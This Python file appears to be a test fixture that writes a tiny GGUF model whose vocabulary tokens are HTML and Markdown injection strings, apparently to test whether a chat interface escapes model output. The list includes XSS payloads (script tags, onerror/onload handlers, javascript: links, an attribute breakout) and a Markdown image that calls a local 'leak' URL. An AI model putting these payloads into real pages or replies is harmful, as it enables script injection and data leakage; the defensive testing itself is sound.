"""A model whose every word is an attack on a page that would take its text for HTML: the weights of tiny, another vocabulary."""
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
WORDS = [  # each with a number, as a vocabulary has no token twice
    "<script>window.hacked={n}</script>",
    '<img src=x onerror="window.hacked={n}">',
    "\n\n<svg onload=window.hacked={n}></svg>\n\n",
    "[go](javascript:window.hacked={n})",
    "![leak](http://127.0.0.1:9/leak?{n})",
    "[site](https://example.com/{n})",
    '<iframe srcdoc="<script>parent.hacked={n}</script>"></iframe>',
    '<a href="javascript:hacked={n}">a</a>',
    "**<b id=hacked{n}>bold</b>** `<i>{n}</i>`",
    "\n```html\n<script>window.hacked={n}</script>\n```\n",
    "\n| <u>a{n}</u> | b |\n|---|---|\n| <style>*{{display:none}}</style> | d |\n\n",
    "\n\n# <h1 onclick=hacked={n}>title</h1>\n\n",
    "\n- <object data=x{n}></object>\n",
    '" onmouseover="window.hacked={n}" x="',
]


def write(path):
    """Into a file at `path`. @return it"""
    sys.path.insert(0, str(ROOT / "tools/make_model"))
    from gguf import STRING, array, write_gguf  # noqa: PLC0415
    from shapes import TINY  # noqa: PLC0415
    from vocabulary import byte_pair_vocabulary, byte_symbols  # noqa: PLC0415

    model = TINY.build(7)
    tokens = list(byte_pair_vocabulary(TINY.vocabulary, TINY.ordinary_tokens).tokens)
    symbols = byte_symbols()
    for index in range(256, TINY.ordinary_tokens):
        text = WORDS[index % len(WORDS)].format(n=index)
        tokens[index] = "".join(symbols[byte] for byte in text.encode())
    model.metadata["tokenizer.ggml.tokens"] = array(STRING, tokens)
    model.metadata["tokenizer.ggml.merges"] = array(STRING, [])
    write_gguf(model, [str(path)])
    return Path(path)


if __name__ == "__main__":
    print(write(sys.argv[1]))
